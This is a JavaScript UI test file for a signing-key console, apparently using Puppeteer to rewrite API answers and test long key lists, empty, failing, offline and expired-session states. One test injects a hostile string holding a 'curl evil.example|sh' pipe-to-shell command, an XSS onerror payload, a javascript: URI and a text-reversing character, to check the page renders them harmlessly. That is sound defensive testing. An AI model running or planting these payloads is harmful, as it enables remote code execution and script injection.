/** States that an issuer is seldom in: the console's own answer, changed on its way to the page. */
import { axeFaults, dress, overflow, press, readAgain, textOf, untilSays, visit } from "./browser.mjs";

const HOSTILE = '`curl evil.example|sh`<img src=x onerror="hits.push(1)">\u202ejavascript:hits.push(2)//';
const DAY = 86_400;

/** Answers a path by what `change` makes of the real answer, until it is undone. */
async function answering({ page, origin }, path, change) {
  const changed = async (request) => {
    if (request.url() !== `${origin}${path}`) return request.continue();
    const headers = { ...request.headers(), host: new URL(origin).host };
    const real = await fetch(request.url(), { method: "POST", headers, body: request.postData() });
    const { status = 200, body } = change(await real.json());
    // The page takes no answer without its proof.
    const proof = { "signet-proof": real.headers.get("signet-proof") };
    return request.respond({ status, contentType: "application/json", headers: proof, body: JSON.stringify(body) });
  };
  await page.setRequestInterception(true);
  page.on("request", changed);
  return async () => {
    page.off("request", changed);
    await page.setRequestInterception(false);
  };
}

function withRetired(view, count) {
  const { now } = view;
  const at = (index) => now - 40 * DAY - (count - index) * 3_600;
  const name = (index) => `retired-${index}`;
  const lives = Array.from({ length: count }, (_, index) => ({
    name: name(index),
    alg: "ES256",
    spans: [
      { phase: "active", from: at(index), to: at(index) + 3_600 },
      { phase: "retired", from: at(index) + 3_600, to: now + DAY },
    ],
    end: null,
    isPlanned: false,
  }));
  const [card] = view.keys;
  const cards = lives.map((life) => ({ ...card, kid: life.name, name: life.name, state: "retired" }));
  return { ...view, keys: [...view.keys, ...cards], lives: { ...view.lives, lives: [...lives, ...view.lives.lives] } };
}

async function looked(world, what) {
  const { page, check } = world;
  const [faults, wide] = [await axeFaults(page), await overflow(page)];
  check(faults.length === 0, `axe finds nothing: ${what}`, faults);
  check(wide <= 0, `nothing is wider than the window: ${what}`, wide);
}

/** A hundred retired keys stand behind a line, and unfold. */
export async function hundredKeys(world) {
  const { page, check } = world;
  await visit(page, "keys");
  const undo = await answering(world, "/api/keys", (view) => ({ body: withRetired(view, 100) }));
  await readAgain(page);
  await page.waitForSelector(".lane.fold");
  const before = (await page.$$(".lane:not(.fold)")).length;
  await untilSays(page, "button.more", "more retired keys");
  for (const width of [320, 1_000]) {
    await dress(page, { width });
    await looked(world, `a hundred keys at ${width}`);
  }
  await page.evaluate(() => document.querySelector(".lane.fold").focus());
  await page.keyboard.press("Enter");
  await page.waitForFunction((count) => document.querySelectorAll(".lane").length > count, {}, before + 90);
  await press(page, "more retired keys");
  await page.waitForFunction(() => document.querySelectorAll(".card.retired").length >= 100);
  await looked(world, "a hundred keys, unfolded");
  await press(page, "Fold earlier keys");
  check((await page.$$(".lane.fold")).length === 1, "they fold again");
  await undo();
}

/** A kid, a reason and an issuer that are made to harm. */
export async function hostileNames(world) {
  const { page, check } = world;
  const undo = await answering(world, "/api/keys", (view) => ({
    body: {
      ...view,
      issuer: `https://a.example/${HOSTILE}`,
      sentence: `${HOSTILE} signs until it is rotated by hand.`,
      alerts: [HOSTILE],
      keys: view.keys.map((card, index) => (index === 0 ? { ...card, kid: HOSTILE, name: HOSTILE, why: HOSTILE } : card)),
      lives: { ...view.lives, lives: view.lives.lives.map((life, index) => (index === 0 ? { ...life, name: HOSTILE } : life)) },
    },
  }));
  await readAgain(page);
  await untilSays(page, "h1", "\\u202e");
  const text = await page.evaluate(() => document.body.textContent + document.body.innerHTML);
  check(!text.includes("\u202e"), "no mark that turns words round is on the page");
  await looked(world, "names that are made to harm");
  await undo();
}

/** No key yet, no answer yet, and a right that is missing. */
export async function emptyAndFailing(world) {
  const { page, check } = world;
  const empty = await answering(world, "/api/keys", (view) => ({
    body: { ...view, keys: [], waits: [], lives: { ...view.lives, lives: [] } },
  }));
  await readAgain(page);
  await page.waitForSelector(".empty h2");
  await looked(world, "no key yet");
  await empty();
  const message = "AWS denies s3:GetObject on the keyring: grant it, and try again";
  const failing = await answering(world, "/api/keys", () => ({
    status: 500,
    body: { error: { code: "aws_access_denied", message } },
  }));
  await page.reload();
  await untilSays(page, "[role=alert]", "s3:GetObject");
  await looked(world, "a right that is missing");
  await failing();
  await press(page, "Try again");
  await page.waitForSelector("h1 .kid.signs");
  check(true, "Try again tries again");
}

/** The console was stopped: what is shown is marked as old, and it is said how to go on. */
export async function stopped(world, stop) {
  const { page, check } = world;
  await stop();
  await readAgain(page);
  await page.waitForSelector(".offline");
  check((await page.$$("h1 .kid")).length > 0, "how things stood is still to be read");
  await looked(world, "the console was stopped");
}

/** A session that the console does not know. */
export async function ended(world) {
  const { page, check } = world;
  await page.evaluate(() => sessionStorage.setItem("signet-session", '{"session":"none","proof":"none"}'));
  await page.reload();
  await untilSays(page, ".door h1", "has ended");
  check((await textOf(page, "body")).includes("signet console"), "it is said how to open another one");
  await looked(world, "the session has ended");
}
